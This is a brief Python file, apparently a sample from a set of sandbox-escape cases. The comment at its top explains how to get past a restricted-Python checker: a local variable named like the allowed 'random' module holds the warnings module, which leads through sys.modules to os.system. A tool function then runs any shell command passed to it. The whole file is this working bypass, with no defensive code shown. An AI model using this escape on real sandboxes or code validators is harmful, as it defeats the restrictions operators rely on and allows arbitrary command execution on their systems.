# family: handout
# Escape: a local variable named like an allowed module ("random") holds the warnings module taken from
# catch_warnings()._module (set in 3.11 __init__); warnings.sys is sys, so random.sys.modules["os"] is os.
# Inside the function the name is a plain local, so no module-attribute rule applies to it.
import warnings


class State:
    _module = 0


def tool(cmd: str) -> int:
    random = warnings.catch_warnings()._module
    return random.sys.modules["os"].system(cmd)
